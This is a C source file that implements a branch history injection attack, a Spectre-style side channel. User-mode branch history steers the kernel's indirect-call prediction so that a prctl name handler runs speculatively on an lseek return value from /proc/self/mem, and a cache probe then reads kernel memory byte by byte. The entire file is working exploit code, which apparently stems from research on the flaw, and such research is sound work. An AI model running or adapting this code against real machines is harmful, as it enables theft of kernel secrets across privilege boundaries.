/*
 * Branch history injection (Barberis et al., 2022): the processor does not let user mode train
 * indirect branches of the kernel, but what user mode did is part of the history by which it chooses
 * among targets that the kernel itself has been to. The same call of the kernel goes to one program
 * with a name, and to another with what a system call returns. After a history that collides with
 * that of a call with a name, the call with a result is predicted to go to the program for names,
 * which takes the result for a pointer. What lseek of /proc/self/mem returns is its caller's choice.
 *
 * Which histories collide is found by trying: many calls with a name under different histories, then
 * calls with a result until one of them shows a byte that is known.
 */
#include "attack.h"

#include <sys/prctl.h>

#include "evict.h"
#include "gadget.h"
#include "secret.h"
#include "train.h"

enum { HISTORIES = 256, TRIES = 512, ROUNDS = 6, ATTEMPTS = 3, CHECKS = 6, PROGRAM_LINE = 0 };

static const uint8_t *array;
static int memory;
static uint64_t trained[HISTORIES], trained_history, history;

/*
 * The kernel calls the program for names. There is one copy of this function, because its own
 * branches are in the histories, too.
 */
static __attribute__((noinline)) void call_with_name(uint64_t bits)
{
	leave_history(bits);
	prctl(PR_SET_NAME, "task");
}

/* It calls the program for results; returns what the other one has disclosed. Likewise. */
static __attribute__((noinline)) int call_with_result(uint64_t bits, uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;

	touch(array + SHARED_KNOWN);
	flush_probe(probe);
	/* The address of the program to call is in the first line of a page. */
	evict(PROGRAM_LINE, pages_to_evict);
	leave_history(bits);
	lseek(memory, address, SEEK_SET);
	return reload_probe(probe);
}

static void train_histories(int from, int to)
{
	for (int i = from; i < to; i++)
		call_with_name(trained[i]);
}

/*
 * The first attempt after another process has used the secret spends what time there is on the walk
 * to it, and on bringing it nearer, which spares both to the next.
 */
static int read_byte(uint64_t address)
{
	int value = NOTHING;

	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++) {
		call_with_name(trained_history);
		value = call_with_result(history, address);
	}
	return value;
}

/* Whether the known byte is read more often than not. */
static int reads_known_byte(void)
{
	int right = 0;

	for (int i = 0; i < CHECKS; i++) {
		use_secret(0);
		right += read_byte(options.known) == KNOWN_BYTE;
	}
	return 2 * right > CHECKS;
}

/* Finds two histories that collide. */
static int find_collision(void)
{
	for (int i = 0; i < HISTORIES; i++)
		trained[i] = next_random();
	train_histories(0, HISTORIES);
	for (int i = 0; i < TRIES; i++) {
		int from = 0, to = HISTORIES;

		history = next_random();
		if (call_with_result(history, options.known) != KNOWN_BYTE)
			continue;
		/* Halves what it may collide with, until one is left. */
		while (to - from > 1) {
			int middle = (from + to) / 2;

			train_histories(from, middle);
			if (call_with_result(history, options.known) == KNOWN_BYTE)
				to = middle;
			else
				from = middle;
		}
		trained_history = trained[from];
		call_with_name(trained_history);
		if (call_with_result(history, options.known) != KNOWN_BYTE)
			continue;
		/*
		 * The processor has not seen the branches of the program for names under the history of the
		 * other call. What it predicts for them is wrong now and then, which costs time: the address
		 * of the program to call has to come from memory then, not from the last cache.
		 */
		if (!reads_known_byte())
			prepare_far_eviction();
		return 1;
	}
	return 0;
}

static int sample(int index)
{
	if (tried_before)
		prepare_far_eviction();
	use_secret(index);
	return read_byte(options.address + index);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address || !options.known)
		errx(2, "expected --address and --known");
	open_secret();
	array = map_gadget(options.gadget);
	memory = open("/proc/self/mem", O_RDONLY);
	if (memory < 0)
		err(1, "/proc/self/mem");
	calibrate();
	prepare_eviction();
	for (int i = 0; i < ROUNDS && !find_collision(); i++)
		;
	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
	return 0;
}
